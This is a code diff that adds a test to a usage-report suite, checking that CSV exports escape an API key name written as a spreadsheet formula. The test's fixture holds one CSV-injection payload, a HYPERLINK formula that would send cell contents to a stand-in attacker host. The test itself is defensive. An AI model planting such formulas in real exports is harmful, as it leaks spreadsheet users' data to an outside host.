@@ -135,6 +135,21 @@ def test_usage_csv_has_the_same_rows_as_the_json(api_client_for):
     assert [row["key"] or "" for row in json_rows] == [str(keys["k2"].pk), str(keys["k1"].pk), ""]
 
 
+def test_usage_csv_escapes_a_key_name_that_is_a_formula(api_client_for):
+    from tests.tenants.factories import ApiKeyFactory
+
+    tenant = TenantFactory(time_zone="UTC")
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+    key = ApiKeyFactory.create(tenant=tenant, name=formula)
+    record_at(tenant, utc(2026, 3, 10, 12), api_key=key, characters=100)
+
+    response = api_client_for(tenant).get("/api/v1/usage.csv", {**MARCH, "group_by": "key"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][:3] == [str(key.pk), f"'{formula} ({key.prefix}…)", "1"]  # A number stays a number.
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_usage_csv_by_day(api_client_for):
     tenant = TenantFactory(time_zone="UTC")
     seed(tenant, rolled="all")
